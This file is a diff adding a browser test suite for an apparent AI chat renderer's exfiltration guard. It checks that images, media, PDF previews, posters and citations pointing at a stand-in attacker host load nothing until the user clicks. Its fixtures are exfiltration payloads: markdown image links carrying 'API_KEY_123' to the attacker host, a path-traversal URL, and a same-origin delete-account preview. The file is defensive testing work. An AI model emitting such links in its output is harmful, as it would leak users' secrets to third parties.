@@ -1,0 +1,127 @@
+/*
+ * The exfiltration guard, with request interception: zero requests to a host outside the
+ * allow-list until the user clicks its placeholder, and after the click exactly the request the
+ * placeholder named. (The test's policy blocks the request itself and reports it: nothing
+ * leaves the machine, but every attempt is seen.)
+ */
+import { beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { render } from 'vitest-browser-react';
+import { page, userEvent } from 'vitest/browser';
+import type { Msg } from '../../src/index.js';
+import { Message } from '../../src/index.js';
+import { EVIL, done, media, result, text, url } from './corpus/case.js';
+import {
+  ALLOWED_MEDIA_PREFIX,
+  attemptedRequests,
+  installTraps,
+  resetTraps,
+  scanDom,
+} from './harness.js';
+import { SAFETY, frames } from './run-case.js';
+
+const SECRET = `https://${EVIL}/collect?q=API_KEY_123`;
+const POSTER = `https://${EVIL}/poster.png?q=API_KEY_123`;
+
+async function show(message: Msg) {
+  const screen = await render(<Message message={message} safety={SAFETY} />);
+  await frames();
+  return screen.container;
+}
+
+/** Waits until the browser has had time to start (and the policy to report) a request. */
+async function settleRequests() {
+  await frames();
+  await new Promise((resolve) => setTimeout(resolve, 100));
+}
+
+beforeAll(() => installTraps());
+beforeEach(async () => {
+  await settleRequests();
+  resetTraps();
+});
+
+describe('no request before the user acts', () => {
+  it.each([
+    ['a markdown image', () => done(text(`Done! ![status](${SECRET})`))],
+    ['a reference-style markdown image', () => done(text(`![s][x]\n\n[x]: ${SECRET}`))],
+    ['a data-block image', () => done(media(url(SECRET, 'image/png'), { name: 'chart.png' }))],
+    ['an image in a tool result', () => done(result([media(url(SECRET, 'image/png'))]))],
+    ['a PDF preview', () => done(media(url(SECRET, 'application/pdf'), { name: 'r.pdf' }))],
+    [
+      'audio (with an attacker poster next to it)',
+      () => done(media(url(SECRET, 'audio/mpeg'), { thumbnail: url(POSTER, 'image/png') })),
+    ],
+    [
+      'video with an attacker poster',
+      () => done(media(url(SECRET, 'video/mp4'), { thumbnail: url(POSTER, 'image/png') })),
+    ],
+  ])('%s: nothing until the click, then exactly that request', async (_, message) => {
+    const root = await show(message());
+    await settleRequests();
+    expect(attemptedRequests()).toEqual([]);
+    expect(scanDom(root)).toEqual([]);
+
+    const load = page.getByRole('button', { name: `Load from ${EVIL}` });
+    await expect.element(load).toBeVisible();
+    await userEvent.click(load);
+    await settleRequests();
+    // A blocked frame is reported by its origin only; every other request by its URL.
+    const attempts = attemptedRequests();
+    expect(attempts.length).toBeGreaterThan(0);
+    for (const attempt of attempts) expect([SECRET, `https://${EVIL}`]).toContain(attempt);
+  });
+
+  it.each([
+    ['audio', 'audio/mpeg'],
+    ['video', 'video/mp4'],
+  ])('%s: native controls that fetch nothing before play, and no poster', async (tag, type) => {
+    // Under this file's policy a blocked media element errors at once, so its attributes are
+    // read as rendered, on a same-origin source that loads without a click.
+    const root = await show(
+      done(media(url('/media/clip', type), { thumbnail: url(POSTER, 'image/png') })),
+    );
+    const element = root.querySelector(tag);
+    expect(element?.getAttribute('preload')).toBe('none');
+    expect(element?.hasAttribute('poster')).toBe(false);
+    await settleRequests();
+    expect(attemptedRequests()).toEqual([]);
+  });
+
+  it('a citation to the attacker: a link, no favicon or preview, no request', async () => {
+    await show(
+      done(
+        text('Per the report.', { citations: [{ url: SECRET, title: 'Report', span: [0, 15] }] }),
+      ),
+    );
+    await settleRequests();
+    expect(attemptedRequests()).toEqual([]);
+    await expect
+      .element(page.getByRole('link', { name: /Report/ }))
+      .toHaveAttribute('href', SECRET);
+  });
+
+  it('the allow-list loads by itself, and only the allow-list', async () => {
+    const allowed = `${ALLOWED_MEDIA_PREFIX}chart.png`;
+    const root = await show(
+      done(
+        text(
+          `![a](${allowed}) ![b](https://cdn.allowed.test/other/x.png) ![c](https://cdn.allowed.test/images/..%2fx.png)`,
+        ),
+      ),
+    );
+    await settleRequests();
+    expect(attemptedRequests()).toEqual([allowed]);
+    expect(root.querySelectorAll('img')).toHaveLength(1);
+    expect(root.querySelectorAll('button')).toHaveLength(2);
+  });
+
+  it('a same-origin document preview waits for the click too', async () => {
+    const root = await show(
+      done(media(url('/settings/delete-account', 'application/pdf'), { name: 'invoice.pdf' })),
+    );
+    await settleRequests();
+    expect(root.querySelector('iframe')).toBeNull();
+    await userEvent.click(page.getByRole('button', { name: `Load from ${location.host}` }));
+    expect(root.querySelector('iframe')?.getAttribute('src')).toBe('/settings/delete-account');
+  });
+});
